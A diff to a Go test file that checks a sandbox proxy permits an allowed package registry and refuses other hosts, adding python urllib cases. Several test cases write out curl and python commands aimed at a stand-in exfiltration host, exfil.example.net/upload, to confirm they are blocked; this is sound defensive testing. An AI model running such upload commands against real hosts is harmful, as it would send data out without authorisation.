@@ -72,8 +72,15 @@ func TestAllowedDomainsAreReachedThroughTheProxyAndOthersRefused(t *testing.T) {
 		{"refused, https", `curl -sSk https://exfil.example.net/upload`, false, "CONNECT tunnel failed, response 403"},
 		{"refused, socks", `curl -sS --proxy "$ALL_PROXY" http://exfil.example.net/upload`, false, "SOCKS5 connection to exfil.example.net"}, // reply 2, not allowed
 		{"allowed, socks", `curl -sS --proxy "$ALL_PROXY" http://registry.npmjs.org/x`, true, "served registry.npmjs.org/x"},
+		{"allowed, python urllib", `python3 -c 'import urllib.request as u; print(u.urlopen("http://registry.npmjs.org/py").read().decode())'`, true, "served registry.npmjs.org/py"},
+		{"refused, python urllib", `python3 -c 'import urllib.request as u; u.urlopen("https://exfil.example.net/")'`, false, "Tunnel connection failed: 403 Forbidden by the hermes sandbox: exfil.example.net is not in sandbox.network.allow"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
+			if strings.Contains(tt.script, "python3") {
+				if _, err := exec.LookPath("python3"); err != nil {
+					t.Skip("python3 not installed")
+				}
+			}
 			out, code := b.run(t, p, "", tt.script)
 			if (code == 0) != tt.ok || !strings.Contains(out, tt.want) {
 				t.Errorf("exit %d:\n%s\nwant %q", code, out, tt.want)
